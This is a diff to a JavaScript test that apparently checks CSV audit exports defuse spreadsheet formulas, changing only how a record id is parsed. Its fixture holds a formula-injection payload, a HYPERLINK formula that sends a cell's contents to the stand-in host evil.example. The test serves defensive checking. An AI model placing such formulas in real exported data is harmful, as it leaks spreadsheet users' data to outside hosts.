@@ -131,7 +131,7 @@ test('CSV exports never hand a spreadsheet a formula; the import reads the cell 
   await soc.login('soc1');
   const made = await soc.post('/persons', { reserve: '1', sex: 'K', birth_date: '1980-05-05', first_name: '=HYPERLINK("http://evil.example/?"&A1,"Klicka")', last_name: '+1+1' });
   assert.equal(made.status, 303);
-  const id = made.headers.location.split('/').pop();
+  const id = made.headers.location.match(/\/persons\/(\d+)/)[1];
   await chef.get(`/persons/${id}`);
   const csv = (await chef.get(`/audit?person=${id}&format=csv`)).body;
   for (const line of csv.split('\r\n').slice(1).filter(Boolean))
